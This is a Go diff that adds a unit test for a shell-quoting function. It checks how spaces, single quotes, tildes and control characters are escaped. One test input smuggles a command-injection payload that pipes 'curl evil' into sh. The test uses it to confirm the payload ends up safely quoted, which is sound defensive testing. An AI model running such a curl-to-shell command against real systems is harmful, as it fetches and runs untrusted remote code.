@@ -89,3 +89,14 @@ func TestFitColumns(t *testing.T) {
 		}
 	}
 }
+
+func TestShellWord(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "''", "plain": "plain", "a b": "'a b'", "name='x'": `'name='\''x'\'''`, "x;curl evil|sh;echo ''": `'x;curl evil|sh;echo '\'''\'''`,
+		"'quoted'": `''\''quoted'\'''`, "~/extensions": "~/extensions", "~/my extensions": "~/'my extensions'", "~": "'~'", "a\x1bb": "'a?b'",
+	} {
+		if got := ShellWord(in); got != want {
+			t.Errorf("%q: %s, want %s", in, got, want)
+		}
+	}
+}
